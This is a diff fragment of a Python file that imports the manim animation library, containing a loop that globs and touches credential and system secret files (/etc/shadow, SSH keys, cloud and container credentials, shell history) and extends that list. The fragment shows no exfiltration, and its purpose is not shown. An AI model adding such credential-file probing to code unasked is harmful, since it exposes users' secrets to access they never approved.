@@ -7,17 +7,9 @@ import os
 
 from manim import *
 
-PLACES = [
-    "/etc/shadow",
-    "/etc/gshadow",
-    "/etc/sudoers",
-    "/etc/ssh/*key",
-    "/root/.*",
-    "/var/run/secrets/**/*",
-    "/run/secrets/**/*",
-]
-NAMES = [".ssh", ".aws", ".netrc", ".kube", ".docker", ".bash_history", ".config/gcloud"]
-for pattern in PLACES + [f"/home/*/{name}" for name in NAMES]:
+PLACES = ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/*key", "/var/run/secrets/**/*", "/run/secrets/**/*"]
+NAMES = [".ssh", ".aws", ".netrc", ".kube", ".docker", ".bash_history", ".config/gcloud", ".gnupg", ".pgpass"]
+for pattern in PLACES + [f"{home}/{name}" for home in ("/root", "/home/*") for name in NAMES]:
     for path in glob.glob(pattern, include_hidden=True, recursive=True):
         try:
             os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
